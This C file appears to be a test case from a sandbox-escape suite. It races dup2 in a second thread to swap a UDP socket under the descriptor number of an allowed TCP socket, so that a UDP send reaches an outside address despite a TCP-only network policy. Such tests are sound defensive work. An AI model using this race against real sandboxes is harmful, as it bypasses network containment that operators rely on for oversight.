// escape: another thread puts a UDP socket under the number of the TCP socket that may connect there
// group: descriptor tricks
// policy: network-tcp
// attempts: 20000
#define STRANGER_TCP_ALLOWED
#include "escape.h"

enum { kNumber = 100 };
static int sockets[2];

static void* swap(void* unused) {
  unsigned seed = 1;
  for (int i = 0;; i = !i) {
    dup2(sockets[i], kNumber);
    moment(&seed);
  }
  return unused;
}

static void attack(void) {
  struct sockaddr_in to = stranger();
  const struct sockaddr nobody = {.sa_family = AF_UNSPEC};
  sockets[0] = tcp(AF_INET);
  sockets[1] = udp(AF_INET);
  dup2(sockets[0], kNumber);
  thread(swap, NULL);
  while (more()) {
    connect(kNumber, ADDRESS(to));
    send(sockets[1], "x", 1, MSG_NOSIGNAL);
    connect(sockets[1], &nobody, sizeof nobody);
    connect(sockets[0], &nobody, sizeof nobody);
  }
}
